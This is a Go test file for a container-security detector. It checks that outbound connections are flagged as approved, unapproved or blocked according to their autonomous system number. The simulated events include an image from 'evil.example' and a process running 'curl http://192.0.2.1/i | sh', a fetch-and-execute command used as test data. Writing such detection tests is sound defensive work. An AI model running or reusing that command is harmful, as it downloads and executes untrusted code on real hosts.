package partition_test

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/maxmind/mmdbwriter"
	"github.com/maxmind/mmdbwriter/mmdbtype"

	"tidewaiter/finding"
)

// systemsDatabase writes a database in which 203.0.113.0/24 is AS64500.
func systemsDatabase(t *testing.T) string {
	t.Helper()
	tree, err := mmdbwriter.New(mmdbwriter.Options{DatabaseType: "test", IncludeReservedNetworks: true})
	if err != nil {
		t.Fatal(err)
	}
	_, network, err := net.ParseCIDR("203.0.113.0/24")
	if err == nil {
		err = tree.Insert(network, mmdbtype.Map{"autonomous_system_number": mmdbtype.Uint32(64500), "autonomous_system_organization": mmdbtype.String("Example Net")})
	}
	if err != nil {
		t.Fatal(err)
	}
	f, err := os.Create(filepath.Join(t.TempDir(), "asn.mmdb"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := tree.WriteTo(f); err != nil {
		t.Fatal(err)
	}
	return f.Name()
}

// egress is what the finding says of the connection to an address.
func egress(f finding.Finding, address string) string {
	for _, e := range f.Evidence {
		if strings.Contains(e.Says, address) && strings.HasPrefix(e.Says, "tcp") {
			return e.Says
		}
	}
	return ""
}

// A destination may be approved or blocked by its autonomous system, in
// whatever form the address was recorded; the finding says which one it is.
func TestDestinationsByAutonomousSystem(t *testing.T) {
	head := fmt.Sprintf("version: 1\nlearning: 1h\nasn_database: %q\nsettings: {registries: [\"good.example/*\"], ", systemsDatabase(t))
	for name, c := range map[string]struct {
		settings, from, to string
		signal             string // that must be there, or with "-" not
		says               string
	}{
		"approved":             {"approved_destinations: [as64500]}", "172.17.0.9", "203.0.113.7:80", "-egress-unapproved", "203.0.113.7:80 (AS64500 Example Net)"},
		"approved, in IPv6":    {"approved_destinations: [AS64500]}", "::ffff:172.17.0.9", "[::ffff:203.0.113.7]:80", "-egress-unapproved", "(AS64500 Example Net)"},
		"another is approved":  {"approved_destinations: [AS64501]}", "172.17.0.9", "203.0.113.7:80", "egress-unapproved", "203.0.113.7:80 (AS64500 Example Net)"},
		"outside the system":   {"approved_destinations: [AS64500]}", "172.17.0.9", "198.51.100.7:80", "egress-unapproved", "198.51.100.7:80"},
		"blocked":              {"blocked_destinations: [AS64500]}", "172.17.0.9", "203.0.113.7:80", "egress-blocked", "(AS64500 Example Net)"},
		"blocked, in IPv6":     {"blocked_destinations: [aS64500]}", "172.17.0.9", "[::ffff:203.0.113.7]:80", "egress-blocked", "(AS64500 Example Net)"},
		"another is blocked":   {"blocked_destinations: [AS64501]}", "172.17.0.9", "203.0.113.7:80", "-egress-blocked", "(AS64500 Example Net)"},
		"for one analytic":     {"AN0691: {OutboundCIDRBlockList: [AS64500]}}", "172.17.0.9", "203.0.113.7:80", "egress-blocked", "(AS64500 Example Net)"},
		"a bare address stays": {"approved_destinations: [203.0.113.7]}", "172.17.0.9", "203.0.113.7:80", "-egress-unapproved", "(AS64500 Example Net)"},
	} {
		t.Run(name, func(t *testing.T) {
			w := newTale(t, head+c.settings)
			w.pull(0, "evil.example/x:1", digest(7))
			w.create(60, 1, "evil.example/x:1")
			w.start(61, 1, 500)
			w.describe(1, 7, "172.17.0.9")
			w.run(62, 500, "sh", "-c", "curl http://192.0.2.1/i | sh")
			w.connect(63, c.from, c.to)
			f := w.one()
			want, not := strings.CutPrefix(c.signal, "-")
			if slices.Contains(signals(f), want) == not {
				t.Errorf("signals %v, want %s", signals(f), c.signal)
			}
			address, _, _ := strings.Cut(c.says, ":")
			if says := egress(f, address); !strings.Contains(says, c.says+",") {
				t.Errorf("the finding says %q, want %q in it", says, c.says)
			}
		})
	}
}
